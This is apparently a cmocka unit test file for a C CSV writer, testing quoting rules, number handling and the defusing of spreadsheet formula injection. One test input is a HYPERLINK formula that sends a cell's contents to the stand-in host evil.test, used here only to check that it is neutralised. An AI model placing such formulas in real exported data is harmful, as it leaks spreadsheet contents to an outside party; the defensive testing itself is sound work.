// SPDX-License-Identifier: Apache-2.0
#include "np_csv.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

/* The cell np_csv_cell writes for s. */
static char *cell(const char *s)
{
	static char out[256];
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	assert_non_null(f);
	assert_int_equal(np_csv_cell(f, s), 0);
	fclose(f);
	snprintf(out, sizeof out, "%s", buf);
	free(buf);
	return out;
}

static void plain_text_is_as_is(void **state)
{
	(void)state;
	assert_string_equal(cell("hello world"), "hello world");
	assert_string_equal(cell(""), "");
	assert_string_equal(cell(NULL), "");
	assert_string_equal(cell("a'b"), "a'b");
}

static void rfc4180_quoting(void **state)
{
	(void)state;
	assert_string_equal(cell("a,b"), "\"a,b\"");
	assert_string_equal(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
	assert_string_equal(cell("two\r\nlines"), "\"two\r\nlines\"");
}

static void formulas_are_defused(void **state)
{
	(void)state;
	assert_string_equal(cell("=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")"),
			    "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\"");
	assert_string_equal(cell("=1+1"), "\"'=1+1\"");
	assert_string_equal(cell("+1+1"), "\"'+1+1\"");
	assert_string_equal(cell("-1+1"), "\"'-1+1\"");
	assert_string_equal(cell("@SUM(A1)"), "\"'@SUM(A1)\"");
	assert_string_equal(cell("\tx"), "\"'\tx\"");
	assert_string_equal(cell("\rx"), "\"'\rx\"");
	assert_string_equal(cell("\nx"), "\"'\nx\"");
	assert_string_equal(cell("-"), "\"'-\"");
	assert_string_equal(cell("-.5"), "\"'-.5\"");
	assert_string_equal(cell("-1e"), "\"'-1e\"");
	assert_true(np_csv_formula("=x"));
	assert_false(np_csv_formula("x=1"));
	assert_false(np_csv_formula(NULL));
}

static void numbers_stay_numbers(void **state)
{
	(void)state;
	assert_string_equal(cell("-0.5"), "-0.5");
	assert_string_equal(cell("12"), "12");
	assert_string_equal(cell("-3e-4"), "-3e-4");
	assert_string_equal(cell("1E+9"), "1E+9");
	assert_false(np_csv_formula("-42"));
}

static void write_errors_are_reported(void **state)
{
	(void)state;
	FILE *f = fopen("/dev/full", "w");
	if (!f)
		skip();
	setvbuf(f, NULL, _IONBF, 0);
	assert_int_equal(np_csv_cell(f, "=x"), EOF);
	assert_int_equal(np_csv_cell(f, "plain"), EOF);
	fclose(f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(plain_text_is_as_is),	 cmocka_unit_test(rfc4180_quoting),
	    cmocka_unit_test(formulas_are_defused),	 cmocka_unit_test(numbers_stay_numbers),
	    cmocka_unit_test(write_errors_are_reported),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
